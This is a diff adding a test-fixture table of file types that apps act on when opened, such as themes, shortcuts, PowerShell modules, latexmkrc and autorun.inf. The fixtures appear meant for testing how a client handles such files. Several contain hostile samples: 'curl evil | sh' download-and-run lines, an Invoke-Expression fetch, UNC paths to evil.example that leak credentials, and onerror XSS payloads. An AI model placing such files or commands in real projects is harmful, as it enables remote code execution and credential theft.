@@ -66,11 +66,59 @@ WINDOWS_ALIASES = {
 }
 
 
+# Names a client acts on when they are opened, or a tool runs from the directory it starts
+# in, each holding the text it acts on.
+ACTED_ON = {
+    "theme-bleed.theme": b"[Control Panel\\Desktop]\r\nWallpaper=\\\\evil.example\\share\\w.bmp\r\n",
+    "themepack-ini.themepack": b"[Theme]\r\nDisplayName=run 42\r\n",
+    "query.dqy": b"XLODBC\r\n1\r\nDSN=evil\r\nSELECT 1\r\n",
+    "query.rqy": b"QueryType=OLEDB\r\nConnection=Provider=MSOLAP;Data Source=evil\r\n",
+    "query.oqy": b"QueryType=OLEDB\r\nConnection=Provider=MSOLAP;Data Source=evil\r\n",
+    "conn.odc": b"<html xmlns:o=x><body>odc</body></html>\r\n",
+    "scriptlet.sct": b"<scriptlet><registration progid=x/></scriptlet>\r\n",
+    "component.wsc": b"<component><public/></component>\r\n",
+    "behaviour.htc": b"<public:component><public:attach event=onload onevent=alert(1) /></public:component>\n",
+    "clickonce.appref-ms": b"https://evil.example/app.application#app.application, Culture=neutral\r\n",
+    "store.appinstaller": b"<AppInstaller Uri='https://evil.example/x.appinstaller' Version='1.0.0.0'/>\r\n",
+    "deploy.application": b"<asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1'/>\r\n",
+    "leak.library-ms": b"<libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'>"
+    b"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
+    b"<url>\\\\evil.example\\share</url></simpleLocation></searchConnectorDescription>"
+    b"</searchConnectorDescriptionList></libraryDescription>\r\n",
+    "leak.searchConnector-ms": b"<searchConnectorDescription><simpleLocation><url>\\\\evil\\s</url>"
+    b"</simpleLocation></searchConnectorDescription>\r\n",
+    "page.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n",
+    "page.mhtml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n",
+    "page.eml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n",
+    "launch.desktop": b"[Desktop Entry]\nType=Application\nName=run 42 plots\nExec=sh -c 'curl evil|sh'\n",
+    "launch.command": b"curl evil | sh\n",
+    "launch.tool": b"curl evil | sh\n",
+    "launch.terminal": b"CommandString = curl evil | sh\n",
+    "link.fileloc": b"URL=file:///Applications/Calculator.app\n",
+    "link.webloc": b"URL=https://evil.example/\n",
+    "link.inetloc": b"URL=https://evil.example/\n",
+    "web.website": b"[InternetShortcut]\r\nURL=https://evil.example/\r\n",
+    "start.jnlp": b"<jnlp codebase='https://evil.example'><application-desc/></jnlp>\n",
+    "mod.psm1": b"Invoke-Expression (iwr https://evil.example)\r\n",
+    "mod.psd1": b"@{ RootModule = 'mod.psm1' }\r\n",
+    "types.ps1xml": b"<Types><Type><Name>System.Object</Name></Type></Types>\r\n",
+    "console.psc1": b"<PSConsoleFile ConsoleSchemaVersion='1.0'/>\r\n",
+    "snap.msc": b"<MMC_ConsoleFile ConsoleVersion='3.0'/>\r\n",
+    "vis/init_vis.mac": b"/control/shell curl evil | sh\n/run/initialize\n",
+    "vis/vis.mac": b"/control/shell curl evil | sh\n",
+    "vis/gui.mac": b"/control/shell curl evil | sh\n",
+    "tex/latexmkrc": b"system('curl evil | sh');\n$pdf_mode = 1;\n",
+    "octave/PKG_ADD": b"system('curl evil | sh');\n",
+    "win/desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\share\\icon.ico,0\r\n",
+    "win/autorun.inf": b"[autorun]\r\nopen=run.bat\r\n",
+}
+
+
 def name_cases() -> dict[str, bytes]:
     """Names a client takes for an XML page or for JSON, holding what they say."""
     files = {f"typed-xml.{ext}": XML_PAGE for ext in XML_EXTS}
     files |= {f"typed-json.{ext}": LOOSE_JSON for ext in JSON_EXTS}
-    return files | WINDOWS_ALIASES
+    return files | WINDOWS_ALIASES | ACTED_ON
 
 
 def sniff_cases() -> dict[str, bytes]:
